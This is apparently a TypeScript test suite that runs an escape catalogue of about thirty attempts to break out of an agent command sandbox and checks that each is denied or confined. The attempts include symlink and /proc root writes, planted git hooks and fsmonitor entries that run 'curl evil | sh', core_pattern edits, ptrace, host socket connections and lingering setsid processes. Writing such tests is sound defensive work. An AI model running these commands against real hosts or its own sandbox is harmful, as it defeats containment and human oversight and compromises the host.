// Escape catalogue: attempts to break out of `workspace-write` with the network off, each run
// through the exec-server's `process/start` with a `sandbox` param, as an agent's command would
// be. Every attempt must fail (or be confined to the sandbox's private namespaces); a failing one
// must be reported as a denial (`sandboxDenied` on the exited event and on the read response);
// and the host must be untouched afterwards.
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { hostname } from 'node:os';
import { join } from 'node:path';
import type { ExecServerClient } from '@execd/exec-client';
import { pathToFileUri } from '@execd/protocol';
import { isProcessRunning, processesWithEnv, waitFor } from '@execd/test-kit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { childEnv, collect, execParams } from './helpers/exec.ts';
import { metricValue, TestServer } from './helpers/in-process-server.ts';

const ID = randomUUID().slice(0, 8);
const MARK = 'EXECD_ESCAPE_MARK';
/** Syscall numbers for the perl `syscall` attempts (no ptrace/keyctl tools are assumed). */
const SYSCALLS = process.arch === 'arm64' ? { ptrace: 117, addKey: 217 } : { ptrace: 101, addKey: 248 };

interface Host {
  readonly root: string;
  /** The workspace: the only writable root (cwd of every attempt). */
  readonly ws: string;
  /** A directory outside every root, holding a file and a unix socket server. */
  readonly outside: string;
  readonly socketPath: string;
  readonly tcp4Port: number;
  readonly tcp6Port: number;
  /** A host process the sandbox tries to reach. */
  readonly victimPid: number;
  readonly shmFile: string;
  readonly shmId: number;
}

let host: Host;
let server: TestServer;
let remote: ExecServerClient;
const connections: string[] = [];
const listeners: Server[] = [];
let victim: ReturnType<typeof spawn>;

/** One escape attempt. `confined`: may exit 0, its effect stays inside the sandbox. */
interface Attempt {
  readonly name: string;
  readonly script: (host: Host) => string;
  readonly confined?: boolean;
  /** For confined attempts: what the sandbox must have observed. */
  readonly output?: RegExp;
  /** Host-side check that nothing changed (runs after the attempt closed). */
  readonly untouched: (host: Host) => void | Promise<void>;
}

const loMtuBefore = readFileSync('/sys/class/net/lo/mtu', 'utf8');
const etcTarget = `/etc/execd-escape-${ID}`;
const outsideFile = (h: Host): string => join(h.outside, 'secret.txt');
const unchangedSecret = (h: Host): void => {
  expect(readFileSync(outsideFile(h), 'utf8')).toBe('original\n');
  expect(readdirSync(h.outside).sort()).toEqual(['secret.txt', 'sock']);
};
const gitIntact = (h: Host): void => {
  expect(readdirSync(join(h.ws, '.git', 'hooks'))).toEqual([]);
  expect(readFileSync(join(h.ws, '.git', 'config'), 'utf8')).toBe('[core]\n\tbare = false\n');
  expect(lstatSync(join(h.ws, '.git')).isDirectory()).toBe(true);
};
const noConnections = (): void => expect(connections).toEqual([]);
const perl = (code: string): string => `perl -e '${code}'`;

const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'write a file outside the roots (absolute path)',
    script: (h) => `echo pwned > ${outsideFile(h)}`,
    untouched: unchangedSecret,
  },
  {
    name: 'write outside the roots through ../',
    script: () => 'echo pwned > ../outside/secret.txt',
    untouched: unchangedSecret,
  },
  {
    name: 'create a file in /etc',
    script: () => `touch ${etcTarget}`,
    untouched: () => expect(existsSync(etcTarget)).toBe(false),
  },
  {
    name: "append to root's shell profile",
    script: () => `echo 'curl evil | sh' >> /root/.bashrc-execd-${ID}`,
    untouched: () => expect(existsSync(`/root/.bashrc-execd-${ID}`)).toBe(false),
  },
  {
    name: 'write through a symlink in the workspace pointing to /etc',
    script: () => `echo pwned > etc-link/execd-escape-${ID}`,
    untouched: () => expect(existsSync(etcTarget)).toBe(false),
  },
  {
    name: 'write through a symlink created in the sandbox to a host directory',
    script: (h) => `ln -s ${h.outside} out-link && echo pwned > out-link/secret.txt`,
    untouched: unchangedSecret,
  },
  {
    name: 'install a .git/hooks/pre-commit hook',
    script: () =>
      "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    untouched: gitIntact,
  },
  {
    name: 'rewrite .git/config (core.hooksPath / fsmonitor)',
    script: () => "printf '[core]\\n\\tfsmonitor = curl evil\\n' >> .git/config",
    untouched: gitIntact,
  },
  {
    name: 'rename .git away and plant a new one',
    script: () => 'mv .git git-away && mkdir -p .git/hooks',
    untouched: gitIntact,
  },
  {
    name: 'hard-link .git/config out of the protected directory',
    script: () => 'ln .git/config stolen-config && echo pwned >> stolen-config',
    untouched: (h) => {
      gitIntact(h);
      expect(existsSync(join(h.ws, 'stolen-config'))).toBe(false);
    },
  },
  {
    name: 'write the host through /proc/self/root',
    script: () => `echo pwned > /proc/self/root/etc/execd-escape-${ID}`,
    untouched: () => expect(existsSync(etcTarget)).toBe(false),
  },
  {
    name: 'write the host through /proc/1/root',
    script: (h) => `echo pwned > /proc/1/root${outsideFile(h)}`,
    untouched: unchangedSecret,
  },
  {
    name: 'remove the protected .git directory',
    script: () => 'rm -rf .git',
    untouched: gitIntact,
  },
  {
    name: 'write a /sys knob',
    script: () => 'echo 1280 > /sys/class/net/lo/mtu',
    untouched: () => expect(readFileSync('/sys/class/net/lo/mtu', 'utf8')).toBe(loMtuBefore),
  },
  {
    name: 'write a sysctl (/proc/sys/kernel/core_pattern)',
    script: () => 'echo "|/tmp/pwn" > /proc/sys/kernel/core_pattern',
    untouched: () => expect(readFileSync('/proc/sys/kernel/core_pattern', 'utf8')).not.toContain('pwn'),
  },
  {
    name: 'sysctl -w kernel.hostname',
    script: () => `sysctl -w kernel.hostname=pwned-${ID}`,
    untouched: () => expect(hostname()).not.toBe(`pwned-${ID}`),
  },
  {
    name: 'remount / read-write',
    script: () => `mount -o remount,rw / && touch ${etcTarget}`,
    untouched: () => expect(existsSync(etcTarget)).toBe(false),
  },
  {
    name: 'mknod a block device for the host disk',
    script: () => 'mknod ./disk b 8 0',
    untouched: (h) => expect(existsSync(join(h.ws, 'disk'))).toBe(false),
  },
  {
    name: 'chroot (the classic chroot escape starts with one)',
    script: () => 'mkdir -p jail && chroot jail /bin/true',
    untouched: () => {},
  },
  {
    name: 'create a nested user namespace (to regain capabilities)',
    script: () => 'unshare -U -r true',
    untouched: () => {},
  },
  {
    name: 'ptrace a host process',
    script: (h) =>
      perl(
        `syscall(${SYSCALLS.ptrace}, 16, ${h.victimPid}, 0, 0) == -1 and die "ptrace: $!\\n"; print "attached\\n"`,
      ),
    untouched: (h) => expect(isProcessRunning(h.victimPid)).toBe(true),
  },
  {
    name: "add a key to the host root's session keyring",
    script: () =>
      perl(
        `my ($t, $d, $p) = ("user", "execd-${ID}", "x"); syscall(${SYSCALLS.addKey}, $t, $d, $p, 1, -3) == -1 and die "add_key: $!\\n"; print "added\\n"`,
      ),
    untouched: () => expect(readFileSync('/proc/keys', 'utf8')).not.toContain(`execd-${ID}`),
  },
  {
    name: 'IPv6 TCP connection to a host server on ::1',
    script: (h) => `exec 3<>/dev/tcp/::1/${h.tcp6Port} && echo connected`,
    untouched: noConnections,
  },
  {
    name: 'IPv4 TCP connection to a host server on 127.0.0.1',
    script: (h) => `exec 3<>/dev/tcp/127.0.0.1/${h.tcp4Port} && echo connected`,
    untouched: noConnections,
  },
  {
    name: 'unix-socket connection to a host server',
    script: (h) =>
      perl(
        `use Socket; socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!\\n"; connect($s, pack_sockaddr_un("${h.socketPath}")) or die "connect: $!\\n"; print "connected\\n"`,
      ),
    untouched: noConnections,
  },
  {
    name: 'overwrite a host file in /dev/shm',
    script: (h) => `echo pwned > ${h.shmFile}; cat ${h.shmFile}`,
    confined: true,
    untouched: (h) => expect(readFileSync(h.shmFile, 'utf8')).toBe('original\n'),
  },
  {
    name: "remove the host's SysV shared memory segment",
    script: (h) => `ipcrm -m ${h.shmId}`,
    confined: true,
    untouched: (h) =>
      expect(readFileSync('/proc/sysvipc/shm', 'utf8')).toMatch(
        new RegExp(`^\\s*-?\\d+\\s+${h.shmId}\\s`, 'm'),
      ),
  },
  {
    name: 'kill a host process',
    script: (h) => `kill -9 ${h.victimPid}`,
    confined: true,
    untouched: (h) => expect(isProcessRunning(h.victimPid)).toBe(true),
  },
  {
    name: 'read a host process through /proc/PID/mem',
    script: (h) => `head -c 16 /proc/${h.victimPid}/mem`,
    confined: true,
    untouched: (h) => expect(isProcessRunning(h.victimPid)).toBe(true),
  },
  {
    name: "take over the sandbox's pid 1 through /proc/1/mem (it is as confined as the command)",
    script: () => `grep -E '^(Seccomp|CapEff|NoNewPrivs):' /proc/1/status`,
    confined: true,
    untouched: () => {},
    output: /^NoNewPrivs:\t1\nSeccomp:\t2\n/m,
  },
  {
    name: 'leave a setsid nohup survivor behind',
    script: () => 'setsid nohup sleep 900 >/dev/null 2>&1 & echo started',
    confined: true,
    // The survivor carries the attempt's marker; it must die with the sandbox.
    untouched: async () => {
      await waitFor(() => processesWithEnv(MARK, 'survivor').length === 0, {
        timeoutMs: 30_000,
        what: 'the setsid survivor to die',
      });
    },
  },
];

beforeAll(async () => {
  const root = mkdtempSync('/tmp/execd-escape-');
  const ws = join(root, 'ws');
  const outside = join(root, 'outside');
  mkdirSync(join(ws, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret.txt'), 'original\n');
  symlinkSync('/etc', join(ws, 'etc-link'));
  const socketPath = join(outside, 'sock');
  const listen = async (options: { path: string } | { host: string; port: number }): Promise<number> => {
    const listener = createServer((socket) => {
      connections.push(String(socket.remoteAddress ?? 'unix'));
      socket.destroy();
    });
    listeners.push(listener);
    await new Promise<void>((resolve) => listener.listen(options, resolve));
    const address = listener.address();
    return typeof address === 'object' && address !== null ? address.port : 0;
  };
  await listen({ path: socketPath });
  const tcp4Port = await listen({ host: '127.0.0.1', port: 0 });
  const tcp6Port = await listen({ host: '::1', port: 0 });
  victim = spawn('sleep', ['600'], { stdio: 'ignore' });
  const shmFile = `/dev/shm/execd-escape-${ID}`;
  writeFileSync(shmFile, 'original\n');
  const shmId = Number(
    /(\d+)/.exec(
      await new Promise<string>((resolve) => {
        const child = spawn('ipcmk', ['-M', '4096'], { stdio: ['ignore', 'pipe', 'ignore'] });
        let out = '';
        child.stdout.on('data', (data: Buffer) => (out += data.toString()));
        child.on('close', () => resolve(out));
      }),
    )?.[1],
  );
  host = { root, ws, outside, socketPath, tcp4Port, tcp6Port, victimPid: victim.pid ?? -1, shmFile, shmId };
  server = await TestServer.start();
  remote = await server.client('msgpack');
});

afterAll(async () => {
  await server?.close();
  victim?.kill('SIGKILL');
  for (const listener of listeners) listener.close();
  if (host) {
    spawn('ipcrm', ['-m', String(host.shmId)], { stdio: 'ignore' });
    rmSync(host.shmFile, { force: true });
    rmSync(host.root, { recursive: true, force: true });
  }
  rmSync(etcTarget, { force: true });
});

describe('escape catalogue: workspace-write, network off', () => {
  test('the catalogue has at least 20 attempts that must be denied and reported', () => {
    const reported = ATTEMPTS.filter((attempt) => !attempt.confined);
    expect(reported.length).toBeGreaterThanOrEqual(20);
  });

  test.each(ATTEMPTS.map((attempt, index) => [attempt.name, index] as const))('%s', async (_name, index) => {
    const attempt = ATTEMPTS[index]!;
    const before = metricValue(
      await (await fetch(`${server.httpUrl}/metrics`)).text(),
      'execd_sandbox_denials_total',
    );
    const proc = await remote.start(
      execParams({
        processId: `attempt-${index}`,
        argv: ['/bin/bash', '-c', attempt.script(host)],
        cwd: host.ws,
        env: childEnv({ [MARK]: attempt.name.includes('setsid') ? 'survivor' : 'attempt' }),
        sandbox: {
          profile: 'workspace-write',
          network: 'off',
          workspaceRoots: [pathToFileUri(host.ws)],
          excludeSlashTmp: true,
          excludeTmpdirEnvVar: true,
        },
      }),
    );
    expect(proc.sandboxType).toBe('linuxSeccomp');
    const result = await collect(proc);
    const output = `${result.stdout}${result.stderr}`;
    expect(result.closed).toBe(true);
    // The tool ran (not "command not found"), so the attempt really was made.
    expect({ exitCode: result.exitCode, output }).not.toMatchObject({
      exitCode: expect.toSatisfy((code: number) => code === 126 || code === 127),
    });
    if (process.env.EXECD_ESCAPE_VERBOSE)
      console.log(
        `${attempt.name}: exit ${result.exitCode}, denied ${result.sandboxDenied}: ${output.trim()}`,
      );
    if (attempt.confined) {
      // It may "succeed", but only inside the sandbox's own namespaces: the host check decides.
      if (attempt.output) expect(output).toMatch(attempt.output);
    } else {
      expect({ exitCode: result.exitCode, output }).not.toMatchObject({ exitCode: 0 });
      expect({ sandboxDenied: result.sandboxDenied, output }).toEqual({ sandboxDenied: true, output });
      const read = await proc.read({ afterSeq: 0 });
      expect(read).toMatchObject({ exited: true, closed: true, sandboxDenied: true });
      expect(output).not.toMatch(/^(attached|added|connected|opened)$/m);
      const after = metricValue(
        await (await fetch(`${server.httpUrl}/metrics`)).text(),
        'execd_sandbox_denials_total',
      );
      expect(after).toBe(before + 1);
    }
    await attempt.untouched(host);
  });
});
